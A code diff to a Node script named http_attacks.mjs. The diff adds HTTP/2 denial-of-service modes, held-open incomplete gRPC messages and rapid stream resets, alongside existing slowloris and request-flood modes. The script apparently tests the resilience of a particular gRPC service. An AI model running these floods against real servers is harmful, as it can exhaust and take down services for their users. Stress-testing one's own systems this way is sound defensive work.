@@ -4,6 +4,12 @@
 //   node http_attacks.mjs bodies HOST:PORT PATH N BYTES [chunked]   N bodies at once, no token
 //   node http_attacks.mjs slowloris HOST:PORT N HOLD_S             N partial headers, held
 //   node http_attacks.mjs sessions HOST:PORT CREDENTIAL N          N initialize, one after another
+//   node http_attacks.mjs h2streams HOST:PORT TOKEN N STREAMS HOLD_S
+//                          N HTTP/2 connections, each with STREAMS gRPC calls whose message never
+//                          completes (a prefix declaring 100 bytes, then 10), held HOLD_S seconds
+//   node http_attacks.mjs h2reset HOST:PORT N STREAMS
+//                          N HTTP/2 connections, each opening STREAMS calls and resetting each
+import http2 from 'node:http2';
 import net from 'node:net';
 
 const [cmd, hostport, ...args] = process.argv.slice(2);
@@ -93,7 +99,42 @@ async function sessions(credential, n) {
   console.log(JSON.stringify({ attack: 'sessions', n, answers: tally(results) }));
 }
 
-if (cmd === 'bodies') await bodies(args[0], Number(args[1]), Number(args[2]), args[3] === 'chunked');
+// HTTP/2 connections (prior knowledge, as gRPC clients speak cleartext) opening gRPC calls:
+// reset at once (reset), or left with a message that never completes. Counts what came back.
+async function h2(token, n, streams, holdS, reset) {
+  const got = [];
+  const sessions = [];
+  let goaway = 0;
+  let failed = 0;
+  const headers = { ':method': 'POST', ':path': '/charter.v1.Runs/ListRuns',
+    'content-type': 'application/grpc', te: 'trailers', authorization: `Bearer ${token}` };
+  const partial = Buffer.alloc(15);
+  partial.writeUInt32BE(100, 1);
+  for (let i = 0; i < n; i++) {
+    const s = http2.connect(`http://${hostport}`);
+    s.on('error', () => failed++);
+    s.on('goaway', () => goaway++);
+    sessions.push(s);
+    s.on('connect', () => {
+      for (let k = 0; k < streams; k++) {
+        const st = s.request(headers, { endStream: false });
+        st.on('response', (h) => { if (h['grpc-status']) got.push(`grpc-status ${h['grpc-status']}`); });
+        st.on('trailers', (h) => got.push(`grpc-status ${h['grpc-status']}`));
+        st.on('error', () => got.push('reset'));
+        if (reset) st.close(http2.constants.NGHTTP2_CANCEL);
+        else st.write(partial);
+      }
+    });
+  }
+  await sleep(holdS * 1000);
+  console.log(JSON.stringify({ attack: reset ? 'h2reset' : 'h2streams', connections: n, streams,
+    held_s: holdS, answers: tally(got), goaway, errors: failed }));
+  for (const s of sessions) s.destroy();
+}
+
+if (cmd === 'h2streams') await h2(args[0], Number(args[1]), Number(args[2]), Number(args[3]), false);
+else if (cmd === 'h2reset') await h2('', Number(args[0]), Number(args[1]), 5, true);
+else if (cmd === 'bodies') await bodies(args[0], Number(args[1]), Number(args[2]), args[3] === 'chunked');
 else if (cmd === 'slowloris') await slowloris(Number(args[0]), Number(args[1]));
 else if (cmd === 'sessions') await sessions(args[0], Number(args[1]));
 else { console.error(`unknown command ${cmd}`); process.exit(2); }
